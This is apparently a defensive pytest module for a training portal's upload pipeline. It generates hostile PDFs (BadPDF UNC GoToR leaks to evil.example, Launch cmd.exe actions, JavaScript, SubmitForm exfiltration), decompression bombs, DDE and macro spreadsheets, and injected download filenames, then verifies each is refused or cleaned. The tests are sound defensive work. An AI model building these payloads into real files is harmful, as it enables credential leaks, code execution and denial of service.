"""The upload corpus (docs/rules/platform.md#pl10), generated here (no binary files in the repository): every
hostile PDF, image and spreadsheet is either refused with a message in both languages or stored cleaned, and
then the stored bytes, parsed again, hold none of the active content; every download goes out with nosniff,
a safe generated Content-Disposition and the verified type. Run the group with `pytest -m files`.

The file checks need no database and run once; the upload → store → download path runs on each database."""
import hashlib
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path
from urllib.parse import unquote

import pikepdf
import pytest
from flask_babel import force_locale
from openpyxl import Workbook
from PIL import Image
from sqlalchemy import func, select

from portal import create_app
from portal.imports.reading import Column, FileProblem, Format, read_table
from portal.platform import downloads, filecheck, pdfclean, uploads
from portal.platform.extensions import db
from portal.platform.uploads import StoredFile, UploadRefused
from portal.training.models import TrainingFile
from tests import security_report
from tests.conftest import base_config, login
from tests.test_uploads import (
    basic_training_record,
    image_bytes,
    pdf_bytes,
    png_header_only,
    post_files,
    text_pdf,
)

pytestmark = pytest.mark.files
ROOT = Path(__file__).resolve().parent.parent


# --- PDFs with active content: each is stored cleaned --------------------------------------

def _link(pdf, action, rect=(0, 0, 100, 100)):
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                 Rect=list(rect), A=action))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([*pdf.pages[0].get("/Annots", []), annot]))


def _s(text):
    return pikepdf.String(text)


UNC = "\\\\evil.example\\share\\leak.pdf"


def gotor_unc(pdf):  # the "BadPDF" NTLM leak
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=_s(UNC), D=[0, pikepdf.Name.Fit]))


def gotor_filespec(pdf):
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=_s(UNC), UF=_s(UNC))
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=spec, D=[0, pikepdf.Name.Fit]))


def launch(pdf):
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=_s("cmd.exe"), P=_s("/c calc"))))


def uri(target):
    def change(pdf):
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=_s(target)))
    return change


def open_action_js(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=_s("app.alert(1)"))


def names_js(pdf):
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(2)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", action]))


def page_aa(pdf):
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=_s("app.alert(3)")))


def embedded_file(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ evil payload")


def attachment_annotation(pdf):
    stream = pdf.make_stream(b"evil payload", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=_s("evil.exe"), EF=pikepdf.Dictionary(F=stream))
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                                 Rect=[0, 0, 20, 20], FS=spec))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annot]))


def xfa_form(pdf):
    field = pdf.make_indirect(pikepdf.Dictionary(
        FT=pikepdf.Name.Tx, T=_s("name"),
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=_s("app.alert(4)")))))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp>evil</xdp:xdp>"))


def rich_media(pdf):
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
                                                 Rect=[0, 0, 10, 10], RichMediaContent=pikepdf.Dictionary()))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annot]))


def submit_import_gotoe(pdf):
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=_s("https://evil.example/collect")))
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=_s(UNC)))
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToE, F=_s(UNC), D=[0, pikepdf.Name.Fit]))


def outline_and_chain(pdf):
    """A bookmark running JavaScript, and a harmless GoTo link whose /Next runs more."""
    item = pdf.make_indirect(pikepdf.Dictionary(Title=_s("Open me"), A=pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=_s("app.alert(5)"))))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item,
                                                             Count=1))
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit],
                                  Next=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=_s("calc.exe"))))


def external_stream(pdf):
    """An image whose data a viewer would fetch from a UNC path."""
    image = pdf.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=1, Height=1,
                            ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8, F=_s(UNC))
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))


def zip_appended():
    """A polyglot: a valid PDF with a ZIP archive after its end."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("evil.txt", "payload " * 200)
    return text_pdf() + archive.getvalue()


# (case, content, strings that must not be left in the stored copy, expanded and uncompressed)
ACTIVE_PDFS = [
    ("GoToR to a UNC path (BadPDF)", pdf_bytes(gotor_unc), [b"/GoToR", b"evil.example"]),
    ("GoToR with a file specification", pdf_bytes(gotor_filespec), [b"/GoToR", b"evil.example"]),
    ("Launch", pdf_bytes(launch), [b"/Launch", b"cmd.exe", b"calc"]),
    ("javascript: link", pdf_bytes(uri("javascript:app.alert(document.cookie)")), [b"javascript:", b"app.alert"]),
    ("JavaScript: link, mixed case and spaces", pdf_bytes(uri("  JaVaScRiPt:app.alert(1)")), [b"app.alert"]),
    ("file: link", pdf_bytes(uri("file:///C:/Windows/System32/calc.exe")), [b"file:", b"calc"]),
    ("UNC link", pdf_bytes(uri(UNC)), [b"evil.example"]),
    ("scheme-relative link", pdf_bytes(uri("//evil.example/share")), [b"evil.example"]),
    ("OpenAction JavaScript", pdf_bytes(open_action_js), [b"/OpenAction", b"/JavaScript", b"app.alert"]),
    ("JavaScript name tree", pdf_bytes(names_js), [b"/JavaScript", b"app.alert"]),
    ("page additional action", pdf_bytes(page_aa), [b"/AA", b"app.alert"]),
    ("embedded file", pdf_bytes(embedded_file), [b"/EmbeddedFile", b"payload"]),
    ("file attachment annotation", pdf_bytes(attachment_annotation), [b"/FileAttachment", b"payload", b"/EF"]),
    ("XFA form with field script", pdf_bytes(xfa_form), [b"/XFA", b"xdp", b"app.alert", b"/AA"]),
    ("rich media", pdf_bytes(rich_media), [b"/RichMedia"]),
    ("SubmitForm, ImportData, GoToE", pdf_bytes(submit_import_gotoe),
     [b"/SubmitForm", b"/ImportData", b"/GoToE", b"evil.example"]),
    ("bookmark script and chained Launch", pdf_bytes(outline_and_chain), [b"/JavaScript", b"/Launch", b"calc"]),
    ("stream data from a UNC path", pdf_bytes(external_stream), [b"evil.example"]),
    ("ZIP appended after the PDF", zip_appended(), [b"PK\x03\x04", b"payload"]),
]


def expanded(data: bytes) -> bytes:
    """The PDF as qpdf's QDF text: every object spelled out, every stream decompressed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False,
                 stream_decode_level=pikepdf.StreamDecodeLevel.all)
    return out.getvalue()


def assert_inert_pdf(data: bytes, leftovers=()):
    """Two independent looks: pdfclean's walk of every object, and a text search of the expanded file."""
    assert pdfclean.find_active(data) == set()
    text = expanded(data)
    for marker in [*leftovers, b"/JavaScript", b"/JS ", b"/OpenAction", b"/Launch", b"/GoToR", b"/EmbeddedFiles"]:
        assert marker not in text, marker


# --- refused: (case, name, content, English words, Chinese words) --------------------------

def raw_pdf(objects: list[bytes]) -> bytes:
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


CATALOG, PAGES = b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"


def nested(depth: int) -> bytes:
    return raw_pdf([CATALOG, PAGES, PAGE, b"[" * depth + b"]" * depth])


def page_tree_bomb(levels=6, fan=10) -> bytes:
    """Each level lists the next level's node ten times: 10**6 pages from 8 objects, /Count claiming 1."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kids = b" ".join([b"%d 0 R" % (level + 3)] * fan)
        objects.append(b"<< /Type /Pages /Kids [%s] /Count 1%s >>" % (kids, b" /Parent %d 0 R" % (level + 1)
                                                                     if level else b""))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 100] >>" % (levels + 1))
    return raw_pdf(objects)


def many_objects(n: int) -> bytes:
    """n tiny objects packed into one compressed object stream: 200,001 of them fit in about 1 MB."""
    numbers = range(5, 5 + n)
    header = b" ".join(b"%d %d" % (num, 2 * i) for i, num in enumerate(numbers)) + b" "
    packed = zlib.compress(header + b"0 " * n, 1)
    head = [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE,
            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
            % (n, len(header), len(packed), packed)]
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(head, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = [struct.pack(">BII", 0, 0, 65535)] + [struct.pack(">BII", 1, o, 0) for o in offsets]
    rows += [struct.pack(">BII", 2, 4, i) for i in range(n)] + [struct.pack(">BII", 1, len(out), 0)]
    table, at = zlib.compress(b"".join(rows), 1), len(out)
    return out + (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
                  b"stream\n" % (5 + n, 6 + n, len(table)) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at)


def png_bomb(side=20_000) -> bytes:
    """A real bomb: a 20,000 × 20,000 black-and-white PNG (400 megapixels) that is about 50 KB on disk."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    row = b"\x00" + b"\x00" * (side // 8)
    pixels = zlib.compressobj(9)
    idat = b"".join(pixels.compress(row) for _ in range(side)) + pixels.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def jpeg_with_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("evil.txt", "payload " * 100)
    return image_bytes("JPEG", (80, 60)) + archive.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
REFUSED = [
    ("encrypted PDF", "locked.pdf", pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="u")),
     "encrypted", "加密"),
    ("encrypted PDF, empty user password", "locked2.pdf", pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="")),
     "encrypted", "加密"),
    ("truncated PDF", "cut.pdf", text_pdf()[: len(text_pdf()) // 2], "incomplete", "不完整"),
    ("10,000-deep nesting", "deep.pdf", nested(10_000), "nested", "層"),
    ("page-tree bomb (10**6 pages, /Count 1)", "tree.pdf", page_tree_bomb(), "same pages", "頁"),
    ("51 pages", "long.pdf", pdf_bytes(pages=51), "51 pages", "51 頁"),
    ("200,001 objects", "objects.pdf", many_objects(200_001), "200,000 objects", "200,000"),
    ("HTML disguised as PDF", "certificate.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>",
     "web page", "網頁"),
    ("SVG", "drawing.svg", SVG, "Only PDF", "PDF"),
    ("SVG named .png", "drawing.png", SVG, "SVG", "SVG"),
    ("PNG decompression bomb (400 MP, 50 KB)", "bomb.png", png_bomb(), "megapixels", "百萬像素"),
    ("PNG whose header claims 20,000 × 20,000", "bomb2.png", png_header_only(20_000, 20_000), "pixels", "像素"),
]


# --- the file checks, once (no database) ----------------------------------------------------

@pytest.fixture(scope="module")
def checker(tmp_path_factory):
    app = create_app(base_config(tmp_path_factory.mktemp("corpus"), "sqlite://"))
    with app.test_request_context():
        yield app


def messages(reason) -> tuple[str, str]:
    """A refusal in English and in Chinese (`reason`: a lazy string or a function giving one)."""
    with force_locale("en"):
        english = str(reason() if callable(reason) else reason)
    with force_locale("zh_TW"):
        chinese = str(reason() if callable(reason) else reason)
    return english, chinese


def test_each_active_pdf_is_stored_cleaned_and_holds_nothing_active_when_read_again(checker):
    for case, data, leftovers in ACTIVE_PDFS:
        before = data + expanded(data)
        assert all(marker in before for marker in leftovers), case  # the case really holds what must go
        checked = filecheck.check_file("證書.pdf", data)
        assert checked.kind == "pdf" and checked.pages == 1, case
        assert_inert_pdf(checked.data, leftovers)
        assert not zipfile.is_zipfile(io.BytesIO(checked.data)), case


def test_ordinary_links_bookmarks_and_pages_survive_the_cleaning(checker):
    def links(pdf):
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=_s("https://www.example.gov.tw/課程")))
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=_s("mailto:office@example.org")))
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=_s("javascript:void(0)")))
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[1].obj, pikepdf.Name.Fit]))
    checked = filecheck.check_file("a.pdf", pdf_bytes(links, pages=2))
    with pikepdf.open(io.BytesIO(checked.data)) as pdf:
        actions = [annot.get("/A") for annot in pdf.pages[0].Annots]
        targets = [str(a.URI) for a in actions if a is not None and a.get("/S") == pikepdf.Name.URI]
        assert targets == ["https://www.example.gov.tw/課程", "mailto:office@example.org"]
        assert any(a is not None and a.get("/S") == pikepdf.Name.GoTo for a in actions)
        assert len(pdf.pages) == 2
    assert checked.removed == ("/URI javascript",)
    assert checked.preview  # poppler still renders the cleaned copy


def test_each_refused_file_says_why_in_both_languages(checker):
    for case, name, data, english_word, chinese_word in REFUSED:
        with pytest.raises(UploadRefused) as refused:
            filecheck.check_file(name, data)
        english, chinese = messages(refused.value.reason)
        assert english_word in english, (case, english)
        assert chinese_word in chinese and chinese != english, (case, chinese)


def test_the_structure_bounds_on_both_sides_of_each_edge(checker, monkeypatch):
    assert filecheck.check_file("fifty.pdf", pdf_bytes(pages=50)).pages == 50
    checker.config["UPLOAD_MAX_PDF_PAGES"] = 500  # a deployment may take longer files
    try:
        assert filecheck.check_file("long.pdf", pdf_bytes(pages=51)).pages == 51
    finally:
        del checker.config["UPLOAD_MAX_PDF_PAGES"]
    assert filecheck.check_file("nested.pdf", nested(pdfclean.MAX_DEPTH)).pages == 1
    with pytest.raises(UploadRefused) as refused:
        filecheck.check_file("nested.pdf", nested(pdfclean.MAX_DEPTH + 1))
    assert "nested" in messages(refused.value.reason)[0]
    small = many_objects(1_000)
    with pikepdf.open(io.BytesIO(small)) as pdf:
        count = len(pdf.objects)
    for limit, accepted in ((count, True), (count - 1, False)):
        checker.config["UPLOAD_MAX_PDF_OBJECTS"] = limit
        try:
            if accepted:
                assert filecheck.check_file("objects.pdf", small).pages == 1
            else:
                with pytest.raises(UploadRefused) as refused:
                    filecheck.check_file("objects.pdf", small)
                assert "objects" in messages(refused.value.reason)[0]
        finally:
            del checker.config["UPLOAD_MAX_PDF_OBJECTS"]


def test_images_are_reencoded_and_pillows_bomb_limit_is_a_refusal(checker, monkeypatch):
    checked = filecheck.check_file("photo.jpg", jpeg_with_zip())
    assert b"PK\x03\x04" not in checked.data and b"payload" not in checked.data
    assert not zipfile.is_zipfile(io.BytesIO(checked.data))
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.format == "JPEG" and image.size == (80, 60)
    # Pillow's own limit (far above ours) answers with the same message, never an exception.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1_000)
    with pytest.raises(UploadRefused) as refused:
        filecheck.check_file("wide.png", image_bytes("PNG", (100, 30)))
    assert "pixels" in messages(refused.value.reason)[0]
    assert filecheck.check_file("small.png", image_bytes("PNG", (20, 20))).width == 20


# --- spreadsheets -------------------------------------------------------------------------

def workbook(edit=None, extra=(), change=None) -> bytes:
    """An .xlsx written by openpyxl, then parts added (`extra`) or rewritten (`change`: name → function)."""
    book = Workbook()
    sheet = book.active
    sheet.append(["身分證字號", "姓名"])
    sheet.append(["A123456789", "王小明"])
    if edit:
        edit(sheet)
    out = io.BytesIO()
    book.save(out)
    if not extra and not change:
        return out.getvalue()
    source, again = zipfile.ZipFile(io.BytesIO(out.getvalue())), io.BytesIO()
    with zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED) as z:
        for member in source.infolist():
            body = source.read(member)
            z.writestr(member, (change or {}).get(member.filename, lambda b: b)(body))
        for name, body in extra:
            z.writestr(name, body)
    return again.getvalue()


def macro_enabled(types: bytes) -> bytes:
    return types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")


def lying_sizes() -> bytes:
    """A 60 MB sheet whose central directory says 1,000 bytes."""
    data = bytearray(workbook(extra=[("xl/worksheets/sheet9.xml", b"<c>0</c>" * (7_500_000))]))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"xl/worksheets/sheet9.xml") + 1)
    data[at + 24:at + 28] = struct.pack("<I", 1000)
    return bytes(data)


CMD = "=cmd|' /C calc'!A0"
SPREADSHEETS = [
    ("external link", workbook(extra=[("xl/externalLinks/externalLink1.xml", "<externalLink/>")]), "external_link"),
    ("DDE link part", workbook(extra=[("xl/externalLinks/externalLink1.xml",
                                       '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')]),
     "dde"),
    ("DDE formula cmd|", workbook(lambda s: s.__setitem__("C1", CMD)), "dde"),
    ("DDE() formula", workbook(lambda s: s.__setitem__("C2", '=DDE("cmd";"/C calc";"A0")')), "dde"),
    ("xlsm: vbaProject.bin", workbook(extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")]), "macros"),
    ("xlsm renamed .xlsx: macro-enabled content type", workbook(change={"[Content_Types].xml": macro_enabled}),
     "macros"),
    ("Excel 4.0 macro sheet", workbook(extra=[("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")]), "macros"),
    ("OLE object", workbook(extra=[("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]), "embedded_object"),
    ("data connection", workbook(extra=[("xl/connections.xml", "<connections/>")]), "external_link"),
    ("zip bomb: 40 MB of zeros", workbook(extra=[("xl/worksheets/sheet2.xml", b"0" * (40 * 2**20))]), "too_big"),
    ("zip bomb: sizes that lie", lying_sizes(), "unreadable"),
    ("CSV with a DDE cell", f"身分證字號,姓名\nA123456789,王小明\nA123456780,\"{CMD}\"\n".encode(), "dde"),
]


ROSTER = Format("test", "test", (Column("id", "身分證字號"), Column("name", "姓名")))


def test_spreadsheets_with_links_dde_macros_objects_or_bombs_are_refused_with_a_message(checker):
    formats = [ROSTER]
    for case, data, code in SPREADSHEETS:
        with pytest.raises(FileProblem) as problem:
            list(read_table(data, formats).rows)
        assert problem.value.code == code, case
        security_report.record("hostile spreadsheets refused", 1)
        english, chinese = messages(problem.value.message_of)
        assert english != chinese and re.search(r"[\u4e00-\u9fff]", chinese), case
    assert problem.value.row == 3  # the CSV's bad row is named
    # The other side of each edge: an ordinary formula, a formula-looking value and a well-compressed sheet pass.
    plain = workbook(lambda s: (s.__setitem__("C2", "=SUM(1,2)"), s.__setitem__("D2", "=1+1")))
    big = workbook(lambda s: [s.append(["A123456789", "王小明"]) for _ in range(5_000)])
    for data in (plain, big, "身分證字號,姓名\nA123456789,=1+1\nA123456780,a|b\n".encode()):
        assert list(read_table(data, formats).rows)


# --- downloads ----------------------------------------------------------------------------

FALLBACK = re.compile(r'attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+')


def test_download_names_are_generated_and_safe_whatever_the_display_text(checker):
    cases = [
        ("基礎訓練證書.pdf", "application/pdf", "基礎訓練證書.pdf", "download.pdf"),
        ('a"; filename=evil.exe; x=".pdf', "application/pdf", "a__ filename=evil.exe_ x=_.pdf", None),
        ("..\\..\\windows\\win.ini", "application/pdf", "_.._windows_win.ini.pdf", None),
        ("../../etc/passwd", "image/png", "_.._etc_passwd.png", None),
        ("name\r\nSet-Cookie: x=1.pdf", "application/pdf", "nameSet-Cookie_ x=1.pdf", None),
        ("evil\u202egpj.exe", "image/jpeg", "evilgpj.exe.jpg", None),
        ("photo.JPEG", "image/jpeg", "photo.jpeg", "photo.jpeg"),
        ("report.html", "text/csv", "report.html.csv", "report.html.csv"),
        ("", "application/pdf", "download.pdf", "download.pdf"),
        ("證" * 300 + ".pdf", "application/pdf", "證" * 116 + ".pdf", "download.pdf"),
    ]
    for raw, mimetype, safe, fallback in cases:
        response = downloads.send(b"x", raw, mimetype)
        header = response.headers["Content-Disposition"]
        assert FALLBACK.fullmatch(header), header
        assert header.isascii() and "\r" not in header and "\n" not in header
        assert unquote(header.split("filename*=UTF-8''")[1]) == safe, raw
        if fallback:
            assert f'filename="{fallback}"' in header
        assert response.mimetype == mimetype and response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == downloads.SANDBOX
    with pytest.raises(KeyError):
        downloads.send(b"<html>", "page.html", "text/html")  # a type the portal never serves


def test_a_pdf_stored_before_the_cleaning_leaves_cleaned(checker):
    """Files accepted before active content was removed on upload are cleaned as they are served."""
    legacy = StoredFile(id=1, storage_key="ab" * 16, kind="pdf", display_name="舊證書.pdf")
    path = uploads.file_path(legacy)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(ACTIVE_PDFS[0][1])
    served = uploads.send_stored(legacy)
    assert served.mimetype == "application/pdf" and FALLBACK.fullmatch(served.headers["Content-Disposition"])
    assert_inert_pdf(served.get_data(), [b"/GoToR", b"evil.example"])
    path.write_bytes(text_pdf())  # a clean one leaves as stored, byte for byte
    assert uploads.send_stored(legacy).get_data() == text_pdf()


def test_every_file_response_goes_through_the_one_helper():
    """A source scan: no view builds its own Content-Disposition or calls send_file."""
    found = []
    for path in sorted((ROOT / "portal").rglob("*.py")):
        if path.name == "downloads.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"Content-Disposition|send_file\(|send_from_directory|as_attachment|download_name", line):
                found.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert not found, "use portal.platform.downloads.send:\n" + "\n".join(found)


# --- through the portal, on each database ---------------------------------------------------

def test_uploaded_corpus_is_stored_clean_and_served_safely(app, world, client):
    record = basic_training_record(world)
    login(client, world.users["clerk_a"])
    client.post("/language", data={"lang": "en"})
    accepted = [(f"{i:02d} {case}.pdf", data) for i, (case, data, _left) in enumerate(ACTIVE_PDFS)]
    accepted += [("照片; filename=x.jpg", jpeg_with_zip())]
    response = post_files(client, f"/training/records/{record.id}/files", accepted, follow_redirects=True)
    assert response.status_code == 200 and "was not accepted" not in response.get_data(as_text=True)
    links = db.session.scalars(select(TrainingFile).order_by(TrainingFile.id)).all()
    assert len(links) == len(accepted)
    security_report.record("hostile files uploaded, stored cleaned and served safely", len(accepted))
    for link in links:
        stored: StoredFile = link.file
        on_disk = (Path(app.config["UPLOAD_DIR"]).resolve() / stored.storage_key[:2]
                   / f"{stored.storage_key}{filecheck.KINDS[stored.kind][1]}").read_bytes()
        assert hashlib.sha256(on_disk).hexdigest() == stored.sha256 and len(on_disk) == stored.size
        if stored.kind == "pdf":
            assert_inert_pdf(on_disk, [b"evil.example", b"app.alert", b"calc"])
        else:
            assert b"PK\x03\x04" not in on_disk and not zipfile.is_zipfile(io.BytesIO(on_disk))
        download = client.get(f"/training/files/{link.id}")
        assert download.status_code == 200 and download.data == on_disk
        assert download.mimetype == filecheck.KINDS[stored.kind][0]  # the verified type, not the claimed one
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert download.headers["Content-Security-Policy"] == downloads.SANDBOX
        assert FALLBACK.fullmatch(download.headers["Content-Disposition"])
    # The refused corpus stores nothing: no file row, no link, no file on disk beyond the accepted ones.
    files_before = sorted(p for p in Path(app.config["UPLOAD_DIR"]).rglob("*") if p.is_file())
    small = [(name, data) for _case, name, data, _en, _zh in REFUSED if len(data) < 1024 * 1024]
    page = post_files(client, f"/training/records/{record.id}/files", small, follow_redirects=True)
    assert page.get_data(as_text=True).count("was not accepted") == len(small)
    assert db.session.scalar(select(func.count(StoredFile.id))) == len(accepted)
    assert sorted(p for p in Path(app.config["UPLOAD_DIR"]).rglob("*") if p.is_file()) == files_before


def test_a_hostile_workbook_uploaded_for_import_is_refused_and_not_kept(app, world, client):
    login(client, world.users["clerk_a"])
    client.post("/language", data={"lang": "zh-TW"})
    for name, data, phrase in (("時數.xlsx", SPREADSHEETS[2][1], "DDE"),
                               ("時數.xlsx", SPREADSHEETS[0][1], "外部連結"),
                               ("時數.xlsx", SPREADSHEETS[4][1], "巨集")):
        response = client.post("/imports/", data={"kind": "hours", "file": (io.BytesIO(data), name)},
                               content_type="multipart/form-data", follow_redirects=True)
        assert response.status_code == 200 and phrase in response.get_data(as_text=True), phrase
    kept = Path(app.config["UPLOAD_DIR"]) / "imports"
    assert not kept.exists() or not any(kept.iterdir())
